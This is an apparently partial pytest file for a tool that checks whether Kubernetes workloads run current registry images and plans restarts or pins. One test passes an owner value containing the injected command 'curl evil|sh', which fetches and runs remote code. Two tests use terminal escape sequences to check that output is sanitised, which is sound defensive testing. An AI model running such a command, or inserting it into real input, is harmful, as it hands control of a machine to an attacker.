        assert (action(entry), entry["patch"]) == ("blocked", None)
        assert entry["reason"] == (
            f"container app1: {APP}:1 is not in the registry: publish it first;"
            f" container app2: {APP}:2 is not in the registry: publish it first"
        )
        assert [use["running"] for use in entry["images"]][2:] == [[]]


class TestSelection:
    """Which workloads are assessed."""

    def test_only_those_that_are_named(self) -> None:
        workloads = [workload(), workload(name="second"), workload(kind="StatefulSet")]
        found = plan(workloads, workloads=["deployment/second", "statefulset/app"])
        assert [entry["name"] for entry in found] == ["deployment/second", "statefulset/app"]

    @pytest.mark.parametrize("allow_empty", [False, True])
    def test_a_name_that_does_not_exist(self, allow_empty: bool) -> None:
        with pytest.raises(ClusterError, match="cannot find deployment/none in namespace openclaw: it does not exist"):
            plan([workload()], workloads=["deployment/app", "deployment/none"], allow_empty=allow_empty)

    def test_a_thousand_pods(self) -> None:
        """Of a hundred workloads with five images, each assessed alone: the time grows with the number, not faster."""

        def assess(count: int) -> tuple[Registry, list[Dict], float]:
            workloads, pods = [], []
            for number in range(count):
                name = f"w{number}"
                workloads.append(workload(container(f"{APP}:{number % 5}"), name=name, init=[container(name="setup")]))
                running = f"{APP}@{OTHER if number % 10 == 3 else INDEX}"
                pods += [pod(running, of=name, init={"setup": f"{APP}@{INDEX}"}) for _rest in range(10)]
            registry = Registry([image(f"{APP}:{tag}") for tag in ("latest", *range(5))])
            # The time of the processor: other processes may be busy.
            started = time.process_time()
            found = plan(workloads, pods, registry)
            return registry, found, time.process_time() - started

        _registry, _found, tenth = assess(10)
        registry, found, took = assess(100)
        assert sorted(registry.requested[:6]) == [*(f"{APP}:{number}" for number in range(5)), f"{APP}:latest"]
        assert [entry["name"] for entry in found if action(entry) == "restart"] == [
            f"deployment/w{number}" for number in range(3, 100, 10)
        ]
        assert {entry["pods"] for entry in found} == {10}
        assert took / tenth < 30


class TestMoving:
    """In a dry run, references that would mean another image."""

    @pytest.mark.parametrize(
        ("text", "running", "there", "assumed", "expected"),
        [
            pytest.param("latest", INDEX, True, "latest", "restart", id="runs the present image"),
            pytest.param("latest", OTHER, False, "latest", "restart", id="would be published"),
            pytest.param("latest", INDEX, True, "1", "none", id="another tag"),
            pytest.param(f"latest@{INDEX}", INDEX, True, "latest", "none", id="a digest"),
        ],
    )
    def test_what_is_stale_then(self, text: str, running: str, there: bool, assumed: str, expected: str) -> None:
        images = [image(), image(f"{APP}@{INDEX}")] if there else []
        own = workload(container(f"{APP}:{text}"))
        entry = one(own, pod(f"{APP}@{running}"), images=images, assume_pushed=[f"{APP}:{assumed}"])
        assert action(entry) == expected
        if expected == "restart":
            assert entry["reason"] == f"container app: {APP}:latest would mean another image"


class TestPatch:
    """What kubernetes.core has to apply."""

    def test_a_restart_is_that_of_kubectl(self) -> None:
        """And records the expected digests."""
        entry = one(workload(kind="StatefulSet"), pod(f"{APP}@{OTHER}", kind="StatefulSet"), pin=True)
        assert entry["changes"] == []
        record = entry["patch"]["metadata"].pop("annotations")
        assert list(record) == ["killinit.zot/release"]
        assert entry["patch"] == {
            "apiVersion": "apps/v1",
            "kind": "StatefulSet",
            "metadata": {"name": "app", "namespace": "openclaw"},
            "spec": {
                "template": {
                    "metadata": {
                        "annotations": {
                            "kubectl.kubernetes.io/restartedAt": STAMP,
                            "zot.killinit.cc/containers": json.dumps({"app": INDEX}),
                        }
                    }
                }
            },
        }

    def test_digests_of_volumes_are_written_into_the_annotation(self) -> None:
        """Those of the registry, also what is current or pinned; the others cannot be known."""
        volumes = [
            volume(),
            volume(f"{DATA}@{OTHER}", name="fixed"),
            volume("ghcr.io/a/b:1", name="foreign"),
            {"name": "cache", "emptyDir": {}},
        ]
        images = [image(), image(f"{DATA}:latest"), image(f"{DATA}@{OTHER}", OTHER)]
        entry = one(workload(volumes=volumes), pod(f"{APP}@{OTHER}"), images=images)
        assert action(entry) == "restart"
        annotations = entry["patch"]["spec"]["template"]["metadata"]["annotations"]
        assert annotations[RESTARTED_AT] == STAMP
        assert json.loads(annotations[VOLUMES]) == {"fixed": OTHER, "workspace": INDEX}
        # The next run reads the recorded digests.
        new = pod(f"{APP}@{INDEX}", annotations=annotations)
        assert action(one(workload(volumes=volumes), new, images=images)) == "none"

    def test_pins_by_name_what_a_restart_cannot_cure(self) -> None:
        """And nothing else: merged by name, the rest stays as it is. Without a tag, the pin names latest."""
        own = workload(
            container(),
            container(APP, "IfNotPresent", "app1"),
            container(f"{APP}:2", "IfNotPresent", "app2"),
            container("ghcr.io/a/b:1", "IfNotPresent", "app3"),
            init=[container(f"{APP}:1@{OTHER}", "IfNotPresent", "setup")],
            volumes=[volume(f"{DATA}:1", "IfNotPresent")],
        )
        running = pod(
            f"{APP}@{OTHER}", f"{APP}@{OTHER}", f"{APP}@{INDEX}", "ghcr.io/a/b@" + OTHER, init={"setup": OTHER}
        )
        images = [image(), image(f"{APP}:1"), image(f"{APP}:2"), image(f"{DATA}:1")]
        entry = one(own, running, images=images, pin=True)
        assert (action(entry), verdicts(entry)) == (
            "pin",
            ["mismatched", "mismatched", "mismatched", "current", "mismatched"],
        )
        assert entry["patch"]["spec"]["template"] == {
            "metadata": {
                "annotations": {
                    RESTARTED_AT: STAMP,
                    CONTAINERS: json.dumps(dict.fromkeys(["app", "app1", "app2", "setup"], INDEX)),
                    VOLUMES: json.dumps({"workspace": INDEX}),
                }
            },
            "spec": {
                "initContainers": [{"name": "setup", "image": f"{APP}:1@{INDEX}"}],
                "containers": [{"name": "app1", "image": f"{APP}:latest@{INDEX}"}],
                "volumes": [{"name": "workspace", "image": {"reference": f"{DATA}:1@{INDEX}"}}],
            },
        }


ANNOTATED: Dict = {"annotations": {RESTARTED_AT: STAMP, CONTAINERS: json.dumps({"app": INDEX})}}


def rolling(*pods: Dict, kind: str = "Deployment", **changes: int | None) -> tuple[Dict, list[Dict]]:
    """A workload that was restarted, and its pods; *changes* are those of rolled_out()."""
    own = workload(kind=kind)
    own["spec"]["template"]["metadata"] = copy.deepcopy(ANNOTATED)
    own["status"] = rolled_out(kind, 1, **changes)
    return own, list(pods)


def waiting_pod(reason: str, message: str = "401", **more: t.Any) -> Dict:
    """A pod of the restart that waits."""
    found = pod("", name="new", phase="Pending", **ANNOTATED, **more)
    found["status"]["containerStatuses"][0]["state"] = {"waiting": {"reason": reason, "message": message}}
    return found


class TestProgress:
    """A workload whose rollout is not done."""

    OLD = pod(f"{APP}@{OTHER}", name="old")

    @pytest.mark.parametrize(
        "new",
        [
            pytest.param([], id="no new pod yet"),
            pytest.param([pod("", name="new", phase="Pending", **ANNOTATED)], id="a new pod that starts"),
            pytest.param([pod(f"{APP}@{INDEX}", name="new", **ANNOTATED)], id="a new pod that runs"),
        ],
    )
    def test_a_restart_that_was_interrupted_is_not_repeated(self, new: list[Dict]) -> None:
        """Its old pods are stale, but the rollout replaces them."""
        own, pods = rolling(self.OLD, *new, updated=len(new), ready=1, whole=1 + len(new))
        entry = one(own, *pods)
        assert (entry["status"], entry["patch"]) == ("progressing", None)
        assert entry["problem"].startswith("deployment/app: a rollout is in progress: ")

    def test_a_rollout_of_an_old_image_is_stale(self) -> None:
        """Else a release could not replace an image whose pods crash: their rollout is never done."""
        own, pods = rolling(pod(f"{APP}@{OTHER}", name="new", annotations={RESTARTED_AT: STAMP}), ready=0)
        assert (one(own, *pods)["status"], action(one(own, *pods))) == ("stale", "restart")

    def test_a_current_pod_that_crashes_is_not_restarted(self) -> None:
        own, pods = rolling(pod(f"{APP}@{INDEX}", name="new", **ANNOTATED), ready=0)
        assert (one(own, *pods)["status"], one(own, *pods)["patch"]) == ("progressing", None)

    def test_containers_of_an_admission_webhook_do_not_make_another_template(self) -> None:
        own, (new,) = rolling(pod("", name="new", phase="Pending", **ANNOTATED), ready=0)
        new["spec"] = {
            "containers": [*own["spec"]["template"]["spec"]["containers"], container("proxy:1", name="proxy")]
        }
        new["status"]["containerStatuses"][0]["state"] = {"waiting": {"reason": "ImagePullBackOff", "message": "401"}}
        assert one(own, new)["status"] == "failed"

    @pytest.mark.parametrize("kind", ["Deployment", "DaemonSet"])
    @pytest.mark.parametrize(
        ("reason", "text"),
        [
            ("ImagePullBackOff", "ImagePullBackOff: 401"),
            # Kubelet cannot read the pull secret, which may be repaired since.
            ("illegal base64", "kubelet cannot read a pull secret of the pod: illegal base64"),
        ],
    )
    def test_a_delayed_pull_is_tried_again_by_a_restart(self, kind: str, reason: str, text: str) -> None:
        """As after a repair of the pull secret: kubelet itself would wait up to five minutes."""
        owner = "ReplicaSet" if kind == "Deployment" else kind
        own, (new,) = rolling(waiting_pod(reason, kind=owner), kind=kind, ready=0)
        entry = one(own, new)
        assert (entry["status"], action(entry)) == ("failed", "restart")
        assert entry["problem"] == (
            f"{kind.lower()}/app: pod new cannot pull: {text}. The rollout was not reverted; ready old pods keep"
            " running."
        )
        # The wait ends when the new pods have the same reason.
        assert one(own, new, wait=True, wait_timeout=60)["status"] == "failed"

    @pytest.mark.parametrize("late", [False, True])
    def test_a_pull_that_has_just_failed_is_tried_again_by_a_restart(self, late: bool) -> None:
        """A pod with a delayed pull shows ErrImagePull after each try. Who waits, waits for the second try."""
        own, (new,) = rolling(waiting_pod("ErrImagePull"), ready=0)
        if late:
            own["status"]["conditions"] = [{"type": "Progressing", "reason": "ProgressDeadlineExceeded"}]
        entry = one(own, new)
        assert (entry["status"], action(entry)) == ("failed", "restart")
        assert "pod new: ErrImagePull: 401" in entry["problem"]
        if not late:
            waited = one(own, new, wait=True, wait_timeout=0)
            assert (waited["status"], waited["patch"]) == ("progressing", None)

    @pytest.mark.parametrize(
        ("reason", "changes", "images"),
        [
            pytest.param("ErrImageNeverPull", {}, [image()], id="never pulled"),
            pytest.param("InvalidImageName", {}, [image()], id="no name"),
            pytest.param("ImagePullBackOff", {}, [], id="not in the registry"),
            pytest.param("ImagePullBackOff", {"paused": True}, [image()], id="paused"),
        ],
    )
    def test_a_pull_that_a_restart_cannot_help(self, reason: str, changes: Dict, images: list[Dict]) -> None:
        own, (new,) = rolling(waiting_pod(reason, "no"), ready=0)
        own["spec"].update(changes)
        entry = one(own, new, images=images)
        assert (entry["status"], entry["patch"]) == ("failed", None)

    @pytest.mark.parametrize("kind", ["Deployment", "StatefulSet"])
    def test_a_delayed_pull_of_another_registry_is_not_tried_again(self, kind: str) -> None:
        own = workload(container(), container("ghcr.io/a/b:1", name="app1"), kind=kind)
        new = pod(f"{APP}@{INDEX}", "", kind="ReplicaSet" if kind == "Deployment" else kind)
        new["status"]["containerStatuses"][1]["state"] = {"waiting": {"reason": "ImagePullBackOff", "message": "x"}}
        own["status"] = rolled_out(kind, 1, ready=0)
        entry = one(own, new)
        assert (entry["status"], entry["patch"]) == ("failed", None)
        assert entry["problem"].endswith("x. The rollout was not reverted; ready old pods keep running.")

    def test_a_statefulset_creates_no_new_pod_before_the_old_one_is_ready(self) -> None:
        own, (new,) = rolling(waiting_pod("ImagePullBackOff", "404", kind="StatefulSet"), kind="StatefulSet", ready=0)
        entry = one(own, new)
        assert (entry["status"], entry["patch"]) == ("failed", None)
        assert entry["problem"] == (
            "statefulset/app: pod new cannot pull: ImagePullBackOff: 404. The registry has the image. Kubelet pulls"
            " again within 5 minutes; a new pod pulls immediately: kubectl --namespace=openclaw delete pod new"
        )


class Clock:
    """Time that only sleep() spends. *sleeps* are the waits."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self.now = 100.0
        self.sleeps: list[float] = []
        monkeypatch.setattr(run.time, "monotonic", lambda: self.now)
        monkeypatch.setattr(run.time, "sleep", self.sleep)

    def sleep(self, seconds: float) -> None:
        self.sleeps.append(seconds)
        self.now += seconds


@pytest.fixture
def clock(monkeypatch: pytest.MonkeyPatch) -> Clock:
    return Clock(monkeypatch)


class ClusterSequence(FakeCluster):
    """A cluster that changes: each list of deployments returns the next scene, or raises it; the last scene repeats."""

    def __init__(self, *scenes: t.Sequence[Dict] | ClusterError) -> None:
        super().__init__()
        self.scenes = list(scenes)

    def list(self, resource: str, namespace: str | None = None, **query: t.Any) -> list[t.Any]:
        if resource == "deployments":
            scene = self.scenes.pop(0) if len(self.scenes) > 1 else self.scenes[0]
            if isinstance(scene, ClusterError):
                raise scene
            self.objects = [NAMESPACE_OBJECT, *scene]
        return super().list(resource, namespace, **query)


class TestWait:
    """The option wait."""

    def scene(self, own: Dict, pods: list[Dict]) -> list[Dict]:
        return [own, *with_templates([own], pods)]

    def under_way(self) -> list[Dict]:
        return self.scene(*rolling(TestProgress.OLD, updated=0))

    def done(self) -> list[Dict]:
        return self.scene(*rolling(pod(f"{APP}@{INDEX}", **ANNOTATED)))

    def failed(self) -> list[Dict]:
        own, (new,) = rolling(waiting_pod("ImagePullBackOff"), ready=0)
        return self.scene(own, [new])

    @pytest.mark.parametrize(("refusals", "ok"), [(6, True), (30, False)])
    def test_an_api_server_that_restarts(self, clock: Clock, refusals: int, ok: bool) -> None:
        """It accepts no connections from the first request on. One that does not exist ends the wait after a minute."""
        refused = [ClusterError("no answer from https://cluster.example:6443 (Connection refused)")] * refusals
        cluster = ClusterSequence(*refused, self.done())
        options: Dict = {"cluster": cluster, "wait": True, "wait_timeout": 300}
        if ok:
            assert info([], **options)["ok"]
            assert clock.sleeps == [5] * refusals
        else:
            with pytest.raises(ClusterError, match="Connection refused"):
                info([], **options)
            assert sum(clock.sleeps) == 60
        # Without a wait it is an error at once.
        with pytest.raises(ClusterError, match="Connection refused"):
            info([], cluster=ClusterSequence(refused[0]))

    @pytest.mark.parametrize(
        ("scenes", "status", "sleeps"),
        [
            (["done"], "current", []),
            (["under_way", "under_way", "done"], "current", [5, 5]),
            (["under_way", "failed"], "failed", [5]),
            (["under_way"], "progressing", [5, 5, 2]),
        ],
    )
    def test_until_it_is_done_or_has_failed_or_the_timeout(
        self, clock: Clock, scenes: list[str], status: str, sleeps: list[int]
    ) -> None:
        """The registry is read once, in the end."""
        states = {"under_way": self.under_way, "done": self.done, "failed": self.failed}
        registry = Registry([image()])
        cluster = ClusterSequence(*(states[name]() for name in scenes))
        found = info([], images=registry, cluster=cluster, wait=True, wait_timeout=12)
        assert (found["workloads"][0]["status"], found["ok"], clock.sleeps) == (status, status == "current", sleeps)
        assert registry.requested == [f"{APP}:latest"]
        late = "deployment/app: the rollout did not finish within 12 seconds: 0 of 1 pods are updated, 1 available"
        assert (found["problems"] == [late]) is (status == "progressing")

    def test_not_at_all(self, clock: Clock) -> None:
        assert info([], cluster=ClusterSequence(self.under_way()))["workloads"][0]["status"] == "progressing"
        assert clock.sleeps == []

    @pytest.mark.parametrize("status", [None, 429, 500, 503])
    def test_an_error_that_can_pass_is_retried(self, clock: Clock, status: int | None) -> None:
        error = ClusterError("no", verb="list", resource="deployments", namespace=NAMESPACE, status=status)
        found = info([], cluster=ClusterSequence(self.under_way(), error, error, self.done()), wait=True)
        assert (found["ok"], len(clock.sleeps)) == (True, 3)

    def test_until_the_timeout_and_no_longer(self, clock: Clock) -> None:
        error = ClusterError("no", verb="list", resource="deployments", namespace=NAMESPACE, status=503)
        with pytest.raises(ClusterError, match="cannot list deployments in namespace openclaw: no"):
            info([], cluster=ClusterSequence(error), wait=True, wait_timeout=12)
        assert clock.sleeps == [5, 5, 2]

    @pytest.mark.parametrize(("status", "wait"), [(400, True), (401, True), (503, False)])
    def test_an_error_that_is_not_retried(self, clock: Clock, status: int, wait: bool) -> None:
        """A permanent one, and every one without a wait."""
        error = ClusterError("no", verb="list", resource="deployments", namespace=NAMESPACE, status=status)
        with pytest.raises(ClusterError):
            info([], cluster=ClusterSequence(error, self.done()), wait=wait)
        assert clock.sleeps == []

    @pytest.mark.parametrize(("error_class", "sleeps"), [("unavailable", [5]), ("rate_limited", [5]), ("denied", None)])
    def test_a_registry_that_fails(
        self, clock: Clock, monkeypatch: pytest.MonkeyPatch, error_class: str, sleeps: list[int] | None
    ) -> None:
        errors = [ZotError(error_class, "no")]
        digest = Registry.digest

        def answer(registry: Registry, reference: Reference) -> str | None:
            if errors:
                raise errors.pop()
            return digest(registry, reference)

        monkeypatch.setattr(Registry, "digest", answer)
        if sleeps is None:
            with pytest.raises(ZotError):
                info([], cluster=ClusterSequence(self.done()), wait=True)
        else:
            assert info([], cluster=ClusterSequence(self.done()), wait=True)["ok"] is True
            assert clock.sleeps == sleeps

    def test_two_hours_need_no_more_memory_than_a_minute(self, clock: Clock) -> None:
        """The version before ended after 250 polls with "Exceeded maximum object depth"."""
        cluster = ClusterSequence(self.under_way())

        def peak(seconds: int) -> int:
            cluster.requests.clear()
            tracemalloc.start()
            info([], cluster=cluster, wait=True, wait_timeout=seconds)
            _now, found = tracemalloc.get_traced_memory()
            tracemalloc.stop()
            return found

        short = peak(60)
        clock.sleeps.clear()
        # A fake notes its requests, about 100 bytes each.
        assert peak(7200) < short + 2_000_000
        assert len(clock.sleeps) == 1440


class TestNothing:
    """A selection that finds nothing proves nothing."""

    @pytest.mark.parametrize(
        ("objects", "options", "message"),
        [
            pytest.param([NAMESPACE_OBJECT], {}, "workloads in namespace openclaw: the namespace has none;", id="none"),
            pytest.param(
                [NAMESPACE_OBJECT, workload()],
                {"label_selectors": ["app=typo", "tier=x"]},
                "in namespace openclaw: the namespace has none with the labels app=typo, tier=x;",
                id="labels",
            ),
            pytest.param([], {"namespace": "typo"}, "namespace typo: the namespace does not exist", id="typo"),
            pytest.param(
                [], {"namespace": "typo", "allow_empty": True}, "typo: the namespace does not exist", id="never allowed"
            ),
            pytest.param(
                [NAMESPACE_OBJECT, workload(FOREIGN)], {}, f"none uses an image of {REGISTRY};", id="registry"
            ),
        ],
    )
    def test_is_an_error(self, objects: list[Dict], options: Dict, message: str) -> None:
        with pytest.raises(ClusterError) as caught:
            info([], cluster=FakeCluster(*objects), **{"allow_empty": False, **options})
        assert message in str(caught.value)
        assert caught.value.retryable is False

    def test_an_account_may_not_know_namespaces(self) -> None:
        with pytest.raises(ClusterError, match="the namespace has none"):
            info([], cluster=FakeCluster(refused=["namespaces"]), allow_empty=False)

    def test_a_malformed_selector_is_an_error(self) -> None:
        with pytest.raises(ClusterError, match="namespace openclaw: unable to parse requirement"):
            info([workload()], label_selectors=["=web"], allow_empty=True)

    def test_is_allowed_before_the_first_deployment(self) -> None:
        """The images must be in the registry, and the result says that nothing runs them."""
        found = info([], released=[f"{APP}:latest"])
        assert (found["ok"], found["workloads"], found["problems"]) == (True, [], [])
        (text,) = found["unverified"]
        assert text.startswith(f"{APP}:latest was released, but no selected workload uses an image of {REGISTRY}")
        absent = info([], released=[f"{APP}:nope"])
        assert absent["problems"] == [f"{APP}:nope was released, but it is not in the registry: publish it first"]
        planned = info([], released=[f"{APP}:nope"], assume_pushed=[f"{APP}:nope"])
        assert (planned["ok"], len(planned["unverified"])) == (True, 1)

    def test_a_named_workload_that_lacks_the_label(self) -> None:
        with pytest.raises(ClusterError, match=r"deployment/app .*: it does not exist with the labels app=x"):
            plan([workload()], workloads=["deployment/app"], label_selectors=["app=x"])


class TestUnreadable:
    """What the account may not read."""

    def test_pods(self) -> None:
        """Nothing is current then."""
        cluster = FakeCluster(workload(), refused=["pods"])
        found = info([], cluster=cluster)
        assert found["ok"] is False
        assert [(each["status"], each["patch"]) for each in found["workloads"]] == [("unknown", None)]
        (problem,) = found["problems"]
        assert problem.startswith("cannot list pods in namespace openclaw: pods is forbidden: User ")
        assert [(each["verb"], each["resource"], each["namespace"]) for each in found["unreadable"]] == [
            ("list", "pods", NAMESPACE)
        ]

    def test_one_kind(self) -> None:
        """The others are assessed."""
        own = workload()
        cluster = FakeCluster(own, *with_templates([own], [pod(f"{APP}@{OTHER}")]), refused=["cronjobs"])
        found = info([], cluster=cluster)
        assert [action(each) for each in found["workloads"]] == ["restart"]
        assert [each["resource"] for each in found["unreadable"]] == ["cronjobs"]
        assert any(text.startswith("cannot list cronjobs") for text in found["problems"])

    def test_a_kind_that_is_not_needed_is_not_read(self) -> None:
        found = info([], cluster=FakeCluster(workload(), refused=["cronjobs"]), workloads=["deployment/app"])
        assert (found["ok"], found["unreadable"]) == (True, [])


class TestProblems:
    """The sentences, and ok."""

    @pytest.mark.parametrize(
        ("running", "images", "ok"),
        [
            pytest.param(INDEX, [image()], True, id="current"),
            pytest.param(OTHER, [image()], False, id="stale"),
            pytest.param(INDEX, [], False, id="missing"),
        ],
    )
    def test_each_workload_that_is_not_current(self, running: str, images: list[Dict], ok: bool) -> None:
        found = info([workload()], [pod(f"{APP}@{running}")], images)
        (entry,) = found["workloads"]
        assert found["ok"] is ok
        assert found["problems"] == ([] if ok else [f"deployment/app: {entry['reason']}"])
        assert entry["problem"] == (None if ok else found["problems"][0])

    def test_where(self) -> None:
        found = info([workload()])
        assert (found["namespace"], found["registry"], found["cluster"], found["changed"]) == (
            NAMESPACE,
            REGISTRY,
            FakeCluster.server,
            False,
        )

    def test_text_of_the_cluster_cannot_control_a_terminal(self) -> None:
        own, (new,) = rolling(waiting_pod("ImagePullBackOff", "\x1b[2Jgone\r\nsecond"), ready=0)
        found = info([own], [new])
        texts = [*found["problems"], found["workloads"][0]["reason"], found["workloads"][0]["problem"]]
        assert all(text.isprintable() for text in texts)
        assert "\\x1b[2Jgone" in texts[0]


class TestCronJob:
    """Its pods start later: its template counts."""

    def test_is_never_restarted(self) -> None:
        found = info([cronjob()])
        (entry,) = found["workloads"]
        assert (entry["name"], entry["status"], entry["patch"], found["ok"]) == ("cronjob/app", "current", None, True)
        assert found["unverified"] == [f"cronjob/app: container app: its pods start later, and pull {APP}:latest then"]

    def test_an_image_of_the_node(self) -> None:
        (text,) = info([cronjob(container(policy="IfNotPresent"))])["unverified"]
        assert text.endswith("its pull policy IfNotPresent takes the image of the node")

    def test_an_image_that_is_missing(self) -> None:
        entry = one(cronjob(), images=[])
        assert (entry["status"], action_of_cronjob(entry)) == ("failed", None)

    @pytest.mark.parametrize("pin", [False, True])
    def test_a_pin_follows_its_tag(self, pin: bool) -> None:
        own = cronjob(container(f"{APP}:latest@{OTHER}"))
        entry = one(own, pin=pin, images=[image(), image(f"{APP}@{OTHER}", OTHER, amd64=digest(1))])
        assert entry["status"] == ("stale" if pin else "current")
        assert action_of_cronjob(entry) == ([{"name": "app", "image": f"{APP}:latest@{INDEX}"}] if pin else None)

    def test_another_revision_is_set(self) -> None:
        own = cronjob(container(f"{APP}:0ld7f00".replace("0ld", "01d")))
        entry = one(own, images=[image(f"{APP}:3f2c1ab")], released=[f"{APP}:3f2c1ab"], set_image="true")
        assert action_of_cronjob(entry) == [{"name": "app", "image": f"{APP}:3f2c1ab"}]


def action_of_cronjob(entry: Dict) -> t.Any:
    """The containers that the patch of a CronJob sets."""
    if not entry["patch"]:
        return None
    assert (entry["patch"]["apiVersion"], entry["patch"]["kind"]) == ("batch/v1", "CronJob")
    template = entry["patch"]["spec"]["jobTemplate"]["spec"]["template"]
    assert "metadata" not in template
    return template["spec"]["containers"]


def other_pod(
    running: str = f"{APP}@{OTHER}",
    kind: str | None = None,
    name: str = "owner",
    version: str = "apps/v1",
    **more: t.Any,
) -> Dict:
    """A pod of no Deployment, StatefulSet or DaemonSet, and of an owner if *kind* is given."""
    found = pod(running, **more)
    owner = {"apiVersion": version, "kind": kind, "name": name, "controller": True}
    found["metadata"]["ownerReferences"] = [owner] if kind else []
    found["spec"] = {"containers": [container()]}
    return found


class TestOtherPods:
    """Pods of other owners."""

    @pytest.mark.parametrize(
        ("kind", "owner", "is_problem"),
        [
            (None, "no owner", True),
            ("ReplicaSet", "ReplicaSet/owner", True),
            ("CloneSet", "CloneSet/owner", True),
            ("Job", "Job/owner", False),
        ],
    )
    def test_stale_ones_are_reported_with_their_owner(self, kind: str | None, owner: str, is_problem: bool) -> None:
        """A Job ends by itself."""
        found = info([workload()], [pod(f"{APP}@{INDEX}"), other_pod(kind=kind), other_pod(kind=kind, name="owner")])
        sentences = found["problems"] if is_problem else found["unverified"]
        assert found["ok"] is not is_problem
        (text,) = sentences
        assert text.startswith(f"pod p of {owner}: container app runs {OTHER[:19]}, but {APP}:latest means ")

    @pytest.mark.parametrize(
        ("other", "owner"),
        [
            pytest.param(pod(f"{APP}@{OTHER}", of="orphan"), "ReplicaSet/orphan-77", id="Deployment"),
            pytest.param(pod(f"{APP}@{OTHER}", of="gone", kind="DaemonSet"), "DaemonSet/gone", id="DaemonSet"),
            pytest.param(
                other_pod(kind="StatefulSet", name="app", version="apps.kruise.io/v1beta1"),
                "StatefulSet/app",
                id="StatefulSet of another API group",
            ),
        ],
    )
    def test_a_pod_whose_workload_does_not_exist(self, other: Dict, owner: str) -> None:
        """For example after kubectl delete deployment --cascade=orphan."""
        own = [workload(), workload(kind="StatefulSet")]
        other = {"spec": {"containers": [container()]}, **other}
        found = info(own, [pod(f"{APP}@{INDEX}"), pod(f"{APP}@{INDEX}", kind="StatefulSet"), other])
        (text,) = found["problems"]
        assert text.startswith(f"pod p of {owner}: container app runs {OTHER[:19]}, but {APP}:latest means ")

    @pytest.mark.parametrize(
        ("options", "refused"),
        [({"label_selectors": ["app=x"]}, []), ({"workloads": ["deployment/app"]}, []), ({}, ["statefulsets"])],
        ids=["label", "name", "unreadable"],
    )
    def test_the_pod_of_a_workload_that_may_exist(self, options: Dict, refused: list[str]) -> None:
        own = workload(metadata={"labels": {"app": "x"}})
        other = pod(f"{APP}@{OTHER}", of="other", kind="StatefulSet", name="old")
        other["metadata"]["labels"] = {"app": "x"}
        other["spec"] = {"containers": [container()]}
        cluster = FakeCluster(own, *with_templates([own], [pod(f"{APP}@{INDEX}"), other]), refused=refused)
        assert not any("pod old" in text for text in info([], cluster=cluster, **options)["problems"])

    @pytest.mark.parametrize(
        ("other", "options"),
        [
            pytest.param(other_pod(f"{APP}@{INDEX}"), {}, id="current"),
            pytest.param(other_pod(f"ghcr.io/a/b@{INDEX}"), {}, id="by another name"),
            pytest.param(other_pod(f"{APP}@{GONE}"), {}, id="the same configuration"),
            pytest.param(other_pod(phase="Succeeded"), {}, id="over"),
            pytest.param(other_pod(ending=True), {}, id="ending"),
            pytest.param(other_pod(), {"workloads": ["deployment/app"]}, id="workloads are named"),
        ],
    )
    def test_others_are_not(self, other: Dict, options: Dict) -> None:
        images = [image(), image(f"{APP}@{GONE}", GONE, amd64=AMD_CONFIG, arm64=ARM_CONFIG)]
        found = info([workload()], [pod(f"{APP}@{INDEX}"), other], images, **options)
        assert (found["problems"], found["unverified"]) == ([], [])

    @pytest.mark.parametrize(("labels", "ok"), [({"app": "x"}, False), ({"app": "y"}, True)])
    def test_labels_select_them(self, labels: dict[str, str], ok: bool) -> None:
        other = other_pod()
        other["metadata"]["labels"] = labels
        own = workload(metadata={"labels": {"app": "x"}})
        assert info([own], [other], label_selectors=["app=x"])["ok"] is ok

    def test_a_hostile_owner_is_quoted(self) -> None:
        (text,) = info([workload()], [other_pod(kind="x; curl evil|sh #", name="\x1b[2J")])["problems"]
        assert "the owner 'x; curl evil|sh #' '\\x1b[2J'" in text
        assert text.isprintable()


NEW, OLD = "3f2c1ab", "01d7f00"
RELEASED = [f"{APP}:{NEW}", f"{APP}:latest"]
RELEASE_IMAGES = [
    image(f"{APP}:{NEW}"),
    image(),
    image(f"{APP}:{OLD}", OTHER, amd64=digest(1)),
    image(f"{APP}:stable", OTHER, amd64=digest(1)),
    image(f"{APP}@{OTHER}", OTHER, amd64=digest(1)),
    image(f"{APP}@{INDEX}"),
]


class TestRelease:
    """The option images: every container that follows runs the release."""

    @pytest.mark.parametrize(
        ("own", "pods", "problem"),
        [
            pytest.param(workload(), [pod(f"{APP}@{INDEX}")], None, id="by a shared tag"),
            pytest.param(workload(container(f"{APP}:{NEW}")), [pod(f"{APP}@{INDEX}")], None, id="by its revision"),
            pytest.param(workload(container(f"{APP}@{INDEX}")), [pod(f"{APP}@{INDEX}")], None, id="by its digest"),
            pytest.param(workload(container(f"{APP}:{NEW}")), [pod(AMD)], None, id="one platform"),
            pytest.param(
                workload(container(f"{APP}:{OLD}")),
                [pod(f"{APP}@{OTHER}")],
                f"deployment/app: container app names {APP}:{OLD}, but",
                id="another revision",
            ),
            pytest.param(
                workload(container(f"{APP}:stable")),
                [pod(f"{APP}@{OTHER}")],
                f"{APP}:{NEW} was released, but no selected workload runs it; deployment/app: container app names"
                f" {APP}:stable",
                id="another tag",
            ),
            pytest.param(
                workload(container(f"{APP}@{OTHER}")),
                [pod(f"{APP}@{OTHER}")],
                f"deployment/app: container app names {APP}@{OTHER}, but",
                id="another digest",
            ),
            pytest.param(
                workload(container(f"{APP}:latest@{OTHER}")),
                [pod(f"{APP}@{OTHER}")],
                f"deployment/app: container app runs {OTHER[:19]}, but",
                id="its tag with another digest",
            ),
            pytest.param(workload(replicas=0), [], None, id="no replicas"),
            pytest.param(
                workload(container(f"{APP}:{OLD}"), replicas=0),
                [],
                f"deployment/app: container app names {APP}:{OLD}, but",
                id="no replicas, another revision",
            ),
            pytest.param(
                workload(container(f"{REGISTRY}/openclaw/tool:1")),
                [pod("")],
                f"{APP}:{NEW} was released, but no selected workload runs it",
                id="not named",
            ),
            pytest.param(cronjob(), [], None, id="a CronJob starts it later"),
        ],
    )
    def test_runs(self, own: Dict, pods: list[Dict], problem: str | None) -> None:
        """Another workload that runs the release does not hide the problem of the first."""
        tool = image(f"{REGISTRY}/openclaw/tool:1", OTHER, amd64=digest(2))
        images = [*RELEASE_IMAGES, tool]
        found = info([own], pods, images, released=RELEASED)
        assert [text[: len(problem or "")] for text in found["problems"]] == ([problem] if problem else [])
        both = info([own, workload(name="b")], [*pods, pod(f"{APP}@{INDEX}", of="b")], images, released=RELEASED)
        assert both["ok"] is (problem is None or "no selected workload" in problem)

    def test_the_same_configurations_under_another_digest(self) -> None:
        """An index that was written again, for example with annotations."""
